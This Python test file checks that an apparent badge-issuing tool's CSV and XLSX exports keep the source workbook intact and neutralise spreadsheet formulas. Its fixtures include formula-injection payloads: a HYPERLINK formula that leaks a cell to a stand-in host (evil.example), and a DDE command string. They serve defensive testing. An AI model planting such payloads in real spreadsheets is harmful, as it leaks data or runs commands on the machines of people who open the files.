"""Exports (badgedesk.core.export): journal columns, and results beside the learner list."""

from __future__ import annotations

import csv
import os

import openpyxl
import pytest
from openpyxl.styles import Font

from badgedesk.core.cohort import read_table
from badgedesk.core.export import (
    COLUMNS,
    RESULT_COLUMNS,
    About,
    export_rows,
    export_with_source,
    free_name,
    safe_cell,
)
from badgedesk.core.messages import InputError

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
ROWS = [
    {
        "row_number": 4,
        "status": "issued",
        "http_status": 200,
        "message": "Issued.",
        "award_id": "A-1",
        "award_url": "https://navigatr.app/assertion/A-1",
        "updated_at": "2026-11-25T10:00:00+00:00",
    },
    {
        "row_number": 5,
        "status": "failed",
        "http_status": 422,
        "message": "=cmd|' /C calc'!A0",
        "award_id": None,
        "award_url": None,
        "updated_at": "2026-11-25T10:00:01+00:00",
    },
    {
        "row_number": 6,
        "status": "skipped_no_consent",
        "http_status": None,
        "message": "No consent recorded; not sent.",
        "updated_at": "2026-11-25T10:00:02+00:00",
    },
]
ADDED_4 = [
    "issued",
    "200",
    "Issued.",
    "A-1",
    "https://navigatr.app/assertion/A-1",
    "2026-11-25T10:00:00+00:00",
    "7",
]
ADDED_5 = ["failed", "422", "'=cmd|' /C calc'!A0", "", "", "", "7"]
ADDED_6 = ["skipped_no_consent", "", "No consent recorded; not sent.", "", "", "", "7"]


def in_xlsx(values):
    return [v or None for v in values]  # an empty result is an empty cell


def make_source_xlsx(path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Learners"
    ws["A1"] = "Spring cohort"
    ws.append([])
    ws.append(["First name", "Last name", "Email", "Consent", "Score"])
    ws.append(["Ada", "Lovelace", "ada@example.org", "yes", "=40+52"])
    ws.append([EVIL_NAME, "Turing", "alan@example.org", "yes", 70])
    ws["A5"].data_type = "s"  # typed as text in the source, not a formula
    ws.append(["Grace", "Hopper", "grace@example.org", "no", 88])
    for cell in ws[3]:
        cell.font = Font(bold=True, color="FF0000")
    other = wb.create_sheet("Notes")
    other["A1"] = "keep me"
    wb.save(path)
    return path


@pytest.fixture
def xlsx_source(tmp_path):
    return make_source_xlsx(tmp_path / "cohort.xlsx")


@pytest.fixture
def csv_source(tmp_path):
    path = tmp_path / "cohort.csv"
    path.write_text(
        "Cohort list\n\nFirst name,Last name,Email,Consent\n"
        f'Ada,Lovelace,ada@example.org,yes\n"{EVIL_NAME.replace(chr(34), chr(34) * 2)}",Turing,alan@example.org,yes\n'
        "Grace,Hopper,grace@example.org,no\n",
        encoding="utf-8",
    )
    return path


def test_safe_cell_and_columns_unchanged():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("+44 20") == "'+44 20" and safe_cell(None) == ""
    assert safe_cell("a\x00b\x1fc") == "abc" and safe_cell("x" * 40000) == "x" * 32000
    assert [k for k, _ in COLUMNS][:4] == ["row_number", "first_name", "last_name", "email"]


def test_export_rows_still_writes_csv_and_xlsx(tmp_path):
    rows = [{"row_number": 2, "first_name": "=evil", "status": "issued", "attempts": 1}]
    out = export_rows(rows, tmp_path / "r.csv")
    lines = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert lines[0] == [label for _, label in COLUMNS] and lines[1][:2] == ["2", "'=evil"]
    ws = openpyxl.load_workbook(export_rows(rows, tmp_path / "r.xlsx", title="Run 3")).active
    assert ws.title == "Run 3" and ws["B2"].value == "'=evil" and ws["B2"].data_type == "s"
    with pytest.raises(InputError) as err:
        export_rows(rows, tmp_path / "r.txt")
    assert err.value.code == "export_format"


def test_xlsx_source_to_xlsx_keeps_the_workbook_and_adds_text_columns(xlsx_source, tmp_path):
    before = xlsx_source.read_bytes()
    source = read_table(xlsx_source)
    assert source.header_row == 3
    out = export_with_source(source, ROWS, tmp_path / "results.xlsx", run_id=7)
    assert xlsx_source.read_bytes() == before  # the source is never written

    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Learners", "Notes"] and wb["Notes"]["A1"].value == "keep me"
    ws = wb["Learners"]
    assert ws["A1"].value == "Spring cohort"
    assert [c.value for c in ws[3]] == [
        "First name",
        "Last name",
        "Email",
        "Consent",
        "Score",
        *RESULT_COLUMNS,
    ]
    assert ws["F3"].font.b and ws["F3"].font.color.rgb == "00FF0000"  # styled like the source's header
    assert ws["E4"].value == "=40+52" and ws["E4"].data_type == "f"  # the user's own formula stays
    assert ws["A5"].value == EVIL_NAME and ws["A5"].data_type == "s"  # text stays text
    assert [c.value for c in ws[4]][5:] == ADDED_4
    assert [c.value for c in ws[5]][5:] == in_xlsx(ADDED_5)
    assert [c.value for c in ws[6]][5:] == in_xlsx(ADDED_6)
    added = [c for row in ws.iter_rows(min_col=6) for c in row if c.value is not None]
    assert added and all(c.data_type == "s" for c in added)
    assert ws.max_column == 12


def test_exporting_a_results_workbook_again_reuses_its_columns(xlsx_source, tmp_path):
    first = export_with_source(read_table(xlsx_source), ROWS, tmp_path / "r1.xlsx", run_id=7)
    changed = [dict(ROWS[1], status="issued", message="Issued.", http_status=200)]
    second = export_with_source(read_table(first), changed, tmp_path / "r2.xlsx", run_id=8)
    ws = openpyxl.load_workbook(second).active
    assert ws.max_column == 12
    assert ws["F5"].value == "issued" and ws["L5"].value == "8"
    assert [c.value for c in ws[4]][5:] == [None] * 7  # stale results of the other run are cleared


def test_xlsx_source_to_csv(xlsx_source, tmp_path):
    out = export_with_source(read_table(xlsx_source), ROWS, tmp_path / "results.csv", run_id=7)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert lines[0] == ["First name", "Last name", "Email", "Consent", "Score", *RESULT_COLUMNS]
    assert lines[1] == ["Ada", "Lovelace", "ada@example.org", "yes", "", *ADDED_4]  # no cached formula value
    assert lines[2][0] == "'" + EVIL_NAME
    assert lines[2][5:] == ADDED_5
    assert lines[3][5:] == ADDED_6


def test_csv_source_to_xlsx_builds_a_fresh_workbook(csv_source, tmp_path):
    out = export_with_source(read_table(csv_source), ROWS, tmp_path / "results.xlsx", run_id=7)
    ws = openpyxl.load_workbook(out).active
    assert ws.title == "Results" and ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == ["First name", "Last name", "Email", "Consent", *RESULT_COLUMNS]
    assert ws["A3"].value == "'" + EVIL_NAME and ws["A3"].data_type == "s"
    assert [c.value for c in ws[2]][4:] == ADDED_4
    assert [c.value for c in ws[3]][4:] == in_xlsx(ADDED_5)
    assert all(c.data_type == "s" for row in ws.iter_rows() for c in row if c.value is not None)


def test_csv_source_to_csv(csv_source, tmp_path):
    out = export_with_source(read_table(csv_source), ROWS[:1], tmp_path / "r.csv", run_id="7")
    lines = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert len(lines) == 4 and lines[1][4:] == ADDED_4 and lines[3][4:] == [""] * 7


def test_excel_lock_file_means_locked_with_a_free_name(xlsx_source, tmp_path):
    target = tmp_path / "results.xlsx"
    target.write_bytes(b"old")
    (tmp_path / "~$results.xlsx").write_bytes(b"owner")
    (tmp_path / "results (2).xlsx").write_bytes(b"taken")
    with pytest.raises(InputError) as err:
        export_with_source(read_table(xlsx_source), ROWS, target, run_id=7)
    assert err.value.code == "export_locked"
    assert err.value.params["suggestion"] == "results (3).xlsx"
    assert "results (3).xlsx" in err.value.message and "\n" not in err.value.message
    assert target.read_bytes() == b"old"
    out = export_with_source(read_table(xlsx_source), ROWS, tmp_path / err.value.params["suggestion"], 7)
    assert out.exists()


def test_permission_error_means_locked(csv_source, tmp_path, monkeypatch):
    def refuse(src, dst):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(InputError) as err:
        export_with_source(read_table(csv_source), ROWS, tmp_path / "results.csv", run_id=7)
    assert err.value.code == "export_locked" and err.value.params["suggestion"] == "results (2).csv"
    assert [p.name for p in tmp_path.iterdir()] == ["cohort.csv"]  # no temporary file left behind


def test_free_name():
    from pathlib import Path

    assert free_name(Path("/nonexistent-dir/results (2).xlsx")).name == "results (2).xlsx"
    assert free_name(Path("/nonexistent-dir/run.csv")).name == "run (2).csv"


def test_never_overwrites_the_source(xlsx_source):
    before = xlsx_source.read_bytes()
    with pytest.raises(InputError) as err:
        export_with_source(read_table(xlsx_source), ROWS, xlsx_source, run_id=7)
    assert err.value.code == "export_onto_source"
    assert xlsx_source.read_bytes() == before


def test_changed_source_is_refused(xlsx_source, tmp_path):
    source = read_table(xlsx_source)
    wb = openpyxl.load_workbook(xlsx_source)
    wb.active.insert_rows(4)
    wb.save(xlsx_source)
    with pytest.raises(InputError) as err:
        export_with_source(source, ROWS, tmp_path / "r.xlsx", run_id=7)
    assert err.value.code == "export_source_changed"
    with pytest.raises(InputError) as err:
        export_with_source(read_table(xlsx_source), ROWS, tmp_path / "r.csv", 7, source_sha256=source.sha256)
    assert err.value.code == "export_source_changed"


def test_wrong_extension(csv_source, tmp_path):
    with pytest.raises(InputError) as err:
        export_with_source(read_table(csv_source), ROWS, tmp_path / "r.ods", run_id=7)
    assert err.value.code == "export_format"


def test_export_to_a_folder_name_is_a_clear_input_error(tmp_path):
    from badgedesk.core.export import export_rows
    from badgedesk.core.messages import InputError

    target = tmp_path / "results.csv"
    target.mkdir()
    with pytest.raises(InputError) as err:
        export_rows([], target)
    assert err.value.code == "export_failed" and "results.csv" in err.value.message


# -- which run and where: the About sheet (.xlsx) and the Where column (.csv) -------------------

ABOUT = About(
    7, "Navigatr · simulator · Northwind", "First Aid at Work (2001)", "2026-12-01 09:30:00 UTC", "9.9"
)
ABOUT_SHEET_LINES = [
    ["Run ID", "7"],
    ["Where", "Navigatr · simulator · Northwind"],
    ["Badge", "First Aid at Work (2001)"],
    ["Exported at", "2026-12-01 09:30:00 UTC"],
    ["BadgeDesk version", "9.9"],
]


def about_lines(path, title="About"):
    wb = openpyxl.load_workbook(path)
    return [[c.value for c in row] for row in wb[title].iter_rows()], wb


def test_export_rows_xlsx_has_an_about_sheet_and_unchanged_results(tmp_path):
    out = export_rows(ROWS, tmp_path / "r.xlsx", title="Run 7", about=ABOUT)
    lines, wb = about_lines(out)
    assert wb.sheetnames == ["Run 7", "About"] and lines == ABOUT_SHEET_LINES
    assert [c.value for c in wb["Run 7"][1]] == [
        label for _, label in COLUMNS
    ]  # no Where on the results sheet


def test_export_rows_csv_has_run_and_where_columns_on_every_row(tmp_path):
    out = export_rows(ROWS, tmp_path / "r.csv", about=ABOUT)
    lines = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert lines[0] == [label for _, label in COLUMNS] + ["Run ID", "Where"]
    assert [line[-2:] for line in lines[1:]] == [["7", "Navigatr · simulator · Northwind"]] * 3
    assert lines[2][8] == "'=cmd|' /C calc'!A0"  # the other cells as before


def test_about_words_are_made_safe(tmp_path):
    evil = About("=1+1", "=HYPERLINK(1) · x", "@SUM(A1)", "t", "v")
    out = export_rows(ROWS[:1], tmp_path / "r.csv", about=evil)
    assert list(csv.reader(out.open(encoding="utf-8-sig")))[1][-2:] == ["'=1+1", "'=HYPERLINK(1) · x"]
    lines, wb = about_lines(export_rows(ROWS[:1], tmp_path / "r.xlsx", about=evil))
    assert [v for _, v in lines[:3]] == ["'=1+1", "'=HYPERLINK(1) · x", "'@SUM(A1)"]
    assert all(c.data_type == "s" for row in wb["About"].iter_rows() for c in row)
    lines, _ = about_lines(
        export_with_source(
            read_table(make_source_xlsx(tmp_path / "s.xlsx")), ROWS, tmp_path / "w.xlsx", run_id=7, about=evil
        )
    )
    assert [v for _, v in lines[:3]] == ["'=1+1", "'=HYPERLINK(1) · x", "'@SUM(A1)"]


def test_about_fills_in_the_time_and_version():
    from badgedesk import __version__

    lines = dict(About(3, "Credly · sandbox").lines())
    assert lines["BadgeDesk version"] == __version__ and lines["Badge"] == ""
    assert lines["Exported at"].endswith(" UTC") and lines["Exported at"][:2] == "20"


def test_workbook_copy_gets_the_about_sheet_and_the_same_result_columns(xlsx_source, tmp_path):
    out = export_with_source(read_table(xlsx_source), ROWS, tmp_path / "r.xlsx", run_id=7, about=ABOUT)
    lines, wb = about_lines(out)
    assert wb.sheetnames == ["Learners", "Notes", "About"] and lines == ABOUT_SHEET_LINES
    ws = wb["Learners"]
    assert [c.value for c in ws[3]][5:] == list(RESULT_COLUMNS) and [c.value for c in ws[4]][5:] == ADDED_4


def test_exporting_a_copy_again_replaces_its_about_sheet_but_keeps_the_workbooks_own(tmp_path):
    source = make_source_xlsx(tmp_path / "cohort.xlsx")
    wb = openpyxl.load_workbook(source)
    wb.create_sheet("About")["A1"] = "Our course, our notes"
    wb.save(source)
    first = export_with_source(
        read_table(source, sheet="Learners"), ROWS, tmp_path / "r1.xlsx", run_id=7, about=ABOUT
    )
    assert openpyxl.load_workbook(first).sheetnames == ["Learners", "Notes", "About", "About (2)"]
    again = About(8, "Navigatr · production · Northwind", "", "2026-12-02 10:00:00 UTC", "9.9")
    second = export_with_source(
        read_table(first, sheet="Learners"), ROWS, tmp_path / "r2.xlsx", run_id=8, about=again
    )
    lines, wb = about_lines(second, "About (2)")
    assert wb.sheetnames == ["Learners", "Notes", "About", "About (2)"]
    assert wb["About"]["A1"].value == "Our course, our notes"
    assert lines[:2] == [["Run ID", "8"], ["Where", "Navigatr · production · Northwind"]]


def test_fresh_workbook_and_csv_copies_say_where(csv_source, xlsx_source, tmp_path):
    lines, wb = about_lines(
        export_with_source(read_table(csv_source), ROWS, tmp_path / "r.xlsx", run_id=7, about=ABOUT)
    )
    assert wb.sheetnames == ["Results", "About"] and lines == ABOUT_SHEET_LINES
    assert [c.value for c in wb["Results"][1]][4:] == list(RESULT_COLUMNS)
    for src in (csv_source, xlsx_source):
        out = export_with_source(
            read_table(src), ROWS, tmp_path / f"{src.stem} results.csv", run_id=7, about=ABOUT
        )
        rows = list(csv.reader(out.open(encoding="utf-8-sig")))
        width = len(rows[0])
        assert rows[0][-8:] == ["Where", *RESULT_COLUMNS]  # the result columns stay the last ones
        assert all(len(r) == width and r[-8] == "Navigatr · simulator · Northwind" for r in rows[1:])
        assert rows[1][-7:] == ADDED_4 and rows[0][: width - 8] == read_table(src).headers
